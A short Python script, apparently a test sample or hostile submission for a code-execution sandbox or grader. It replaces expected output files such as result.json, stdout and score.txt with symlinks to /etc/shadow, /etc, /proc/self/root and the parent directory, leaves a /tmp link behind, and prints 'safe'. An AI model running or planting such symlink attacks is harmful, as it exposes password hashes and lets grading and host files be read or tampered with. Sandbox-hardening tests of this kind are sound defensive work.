import os

names = ("result.json", "program", "stdout", "stderr", "score.txt", "solution.py", "execution.log")
for name in names:
    for target in ("/etc/shadow", "/etc", "..", "/proc/self/root", name):
        try:
            os.symlink(target, name if target == "/etc/shadow" else f"{name}-{hash(target)}")
        except OSError:
            continue
os.mkdir("directory")
os.symlink("/tmp", "directory/left-behind")
print("safe")
